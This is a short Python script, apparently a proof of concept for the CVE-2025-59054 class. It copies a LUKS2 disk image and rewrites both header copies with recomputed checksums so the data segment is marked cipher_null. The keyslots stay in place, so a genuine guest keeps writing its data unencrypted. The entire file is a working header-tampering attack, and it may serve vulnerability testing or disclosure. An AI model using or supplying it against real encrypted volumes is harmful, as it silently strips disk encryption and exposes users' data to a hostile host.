#!/usr/bin/env python3
# SPDX-License-Identifier: Apache-2.0
"""null-cipher.py IMAGE OUT

Copies a LUKS2 image and makes its data segment "encrypted" with cipher_null, in both copies of the header with good
checksums: what a hostile host does to have a genuine guest write its data in the clear (the class of CVE-2025-59054).
The keyslots stay, so the right passphrase still opens it, and no cryptsetup so far objects.
"""
import hashlib
import json
import shutil
import struct
import sys

BINARY_HEADER = 4096
CHECKSUM = slice(448, 512)

source, target = sys.argv[1:3]
shutil.copyfile(source, target)
with open(target, "r+b") as image:
    size = struct.unpack(">Q", image.read(16)[8:])[0]
    for offset in (0, size):
        image.seek(offset)
        header = bytearray(image.read(size))
        metadata = json.loads(header[BINARY_HEADER:].split(b"\0", 1)[0])
        for segment in metadata["segments"].values():
            segment["encryption"] = "cipher_null-ecb"
        text = json.dumps(metadata, separators=(",", ":")).encode()
        header[BINARY_HEADER:] = text.ljust(size - BINARY_HEADER, b"\0")
        header[CHECKSUM] = bytes(64)
        header[CHECKSUM] = hashlib.sha256(header).digest().ljust(64, b"\0")
        image.seek(offset)
        image.write(header)
